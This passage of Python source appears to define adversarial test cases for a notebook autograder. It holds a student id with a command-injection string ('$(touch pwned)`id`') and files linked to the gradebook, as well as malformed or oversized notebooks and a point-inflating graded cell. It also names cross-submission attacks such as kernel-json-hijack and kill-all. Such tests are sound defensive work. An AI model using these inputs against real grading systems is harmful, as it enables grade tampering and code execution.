         lambda ctx: {**inserted(READ_EXTRA_FILES, after="setup")(ctx), "notes.txt": Link("{course}/gradebook.db"),
                      "source.txt": Link("{course}/source/01_softmax/softmax.ipynb")},
         "extra files linked to the gradebook and the source notebook", reason="notes.txt: 符号链接"),
    Case("hardlink-extra-file", "harmless",
         lambda ctx: {**inserted(READ_EXTRA_FILES, after="setup")(ctx), "notes.txt": HardLink("{course}/gradebook.db")},
         "an extra file hard-linked to the gradebook", reason="notes.txt: 硬链接"),
    Case("fifo-notebook", "rejected", instead_of_notebook(FIFO), "a FIFO named like the notebook",
         reason="softmax.ipynb: 不是普通文件"),
    Case("folder-notebook", "rejected", instead_of_notebook(FOLDER), "a folder named like the notebook",
         reason="softmax.ipynb: 是文件夹"),
    Case("huge-notebook", "rejected", raw(padded), "a valid notebook of over 100 MB", reason="softmax.ipynb: 笔记本过大"),
    Case("many-arrays", "rejected", raw(many_arrays), "a notebook of 29 MiB holding 10 million empty arrays",
         reason="softmax.ipynb: 笔记本的JSON数组和对象超过"),
    Case("other-kernel", "harmless", other_kernel, "the notebook's metadata names R"),
    Case("extra-graded-cell", "rejected", extra_graded_cell, "a new graded cell worth 1000 points"),
    # student ids
    Case("学生 张三", "harmless", lambda ctx: ctx.copy(), "a Chinese name with a space"),
    Case("o'brien;$(touch pwned)`id`&", "harmless", lambda ctx: ctx.copy(), "shell metacharacters in the id"),
]

# Graded one after another by one worker, in the order of their names, right before the witness (course grade
# --jobs 1): none of them may change the witness's grades, and look-for-ipc finds nothing leave-ipc left.
SEQUENCE = ["kernel-json-hijack", "kill-all", "leave-behind", "leave-ipc", "look-for-ipc"]
